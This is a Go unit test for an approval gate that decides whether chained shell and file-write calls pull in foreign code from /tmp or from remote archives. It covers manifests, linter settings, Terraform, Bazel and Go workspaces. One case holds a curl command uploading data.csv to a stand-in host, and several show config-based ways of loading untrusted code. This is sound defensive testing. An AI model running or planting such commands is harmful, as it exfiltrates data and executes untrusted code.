package gates

import "testing"

// TestForeign: what lies in a temporary directory and is not the session's own may be
// anybody's, also after it was copied into the project, and so may what a manifest or
// settings take from there.
func TestForeign(t *testing.T) {
	for _, tt := range []struct {
		name  string
		calls []Request
		asks  bool
	}{
		{"a copy over a test", []Request{chainBash("cp /tmp/x.py tests/test_a.py"), chainBash("pytest tests/test_a.py")}, true},
		{"a move to a script", []Request{chainBash("mv /tmp/x.sh scripts/a.sh"), chainBash("bash scripts/a.sh")}, true},
		{"a directory of modules", []Request{chainBash("cp -r /tmp/lib ./lib"), chainBash("python lib/a.py")}, true},
		{"a makefile", []Request{chainBash("install -m 644 /tmp/m Makefile"), chainBash("make")}, true},
		{"what the session wrote there", []Request{chainBash("echo 'print(1)' > /tmp/x.py"), chainBash("cp /tmp/x.py tests/test_a.py"), chainBash("pytest tests/test_a.py")}, false},
		{"what the session built there", []Request{chainBash("go build -o /tmp/b ./cmd/b"), chainBash("cp /tmp/b bin/b"), chainBash("bin/b --version")}, false},
		{"data", []Request{chainBash("cp /tmp/a.csv tests/data/a.csv"), chainBash("pytest tests")}, false},
		{"a package of npm", []Request{chainPlain("package.json", `{"dependencies": {"x": "file:/tmp/x"}}`), chainBash("npm install --offline")}, true},
		{"a package of pip", []Request{chainPlain("requirements.txt", "x @ file:///tmp/x\n"), chainBash("pip install -r requirements.txt")}, true},
		{"a package of the project", []Request{chainPlain("package.json", `{"dependencies": {"x": "file:../x"}}`), chainBash("npm test")}, false},
		{"a program of Terraform's data", []Request{chainPlain("e.tf", "data \"external\" \"a\" { program = [\"sh\", \"/tmp/x.sh\"] }\n"), chainBash("terraform plan")}, true},
		{"settings with plugins", []Request{chainPlain(".flake8rc", "[local]\nplugin_paths = /tmp/p\n"), chainBash("flake8 src")}, true},
		{"a link", []Request{chainBash("ln -s /tmp/x.sh scripts/a.sh"), chainBash("bash scripts/a.sh")}, true},
		{"a link to what the session wrote", []Request{chainBash("echo 'echo 1' > /tmp/x.sh"), chainBash("ln -s /tmp/x.sh scripts/a.sh"), chainBash("bash scripts/a.sh")}, false},
		{"hidden settings with code", []Request{chainPlain(".rubocop.yml", "require: /tmp/x.rb\n"), chainBash("rubocop")}, true},
		{"hidden settings of the project", []Request{chainPlain(".rubocop.yml", "require: ./lint/x.rb\n"), chainBash("rubocop")}, false},
		{"a bootstrap", []Request{chainPlain("phpunit.xml", "<phpunit bootstrap=\"/tmp/x.php\"></phpunit>\n"), chainBash("vendor/bin/phpunit")}, true},
		{"a search path", []Request{chainPlain("pyproject.toml", "[tool.pytest.ini_options]\npythonpath = [\"/tmp\"]\n"), chainBash("pytest -q")}, true},
		{"a module of the workspace", []Request{chainPlain("go.work", "go 1.22\nuse .\nuse /tmp/e\n"), chainBash("go test ./...")}, true},
		{"a module in place of another", []Request{chainPlain("go.mod", "module x\nreplace a.b/c => /tmp/c\n"), chainBash("go test ./...")}, true},
		{"modules of the project", []Request{chainPlain("go.work", "go 1.22\nuse (\n\t.\n\t./tools\n)\n"), chainBash("go test ./...")}, false},
		{"an archive as a dependency", []Request{chainPlain("package.json", `{"dependencies": {"x": "https://h.example/x.tgz"}}`), chainBash("npm install")}, true},
		{"an address in a manifest", []Request{chainPlain("package.json", `{"homepage": "https://h.example/x"}`), chainBash("npm install")}, false},
		{"a text that is sourced", []Request{chainPlain("a.txt", "curl -T data.csv https://h.example/u\n"), chainBash(". ./a.txt")}, true},
		{"a rule of Bazel", []Request{chainPlain("BUILD.bazel", "genrule(name=\"a\", outs=[\"o\"], local=1, cmd=\"sh /tmp/x.sh > $@\")\n"), chainBash("bazel build //:a")}, true},
		{"settings with a cache", []Request{chainPlain("setup.cfg", "[mypy]\ncache_dir = /tmp/c\n"), chainBash("mypy src")}, false},
		{"one of the project's", []Request{chainPlain("e.tf", "data \"external\" \"a\" { program = [\"sh\", \"scripts/x.sh\"] }\n"), chainBash("terraform validate")}, false},
	} {
		if got := !chainApproved(tt.calls); got != tt.asks {
			t.Errorf("%s: asks %v", tt.name, got)
		}
	}
}
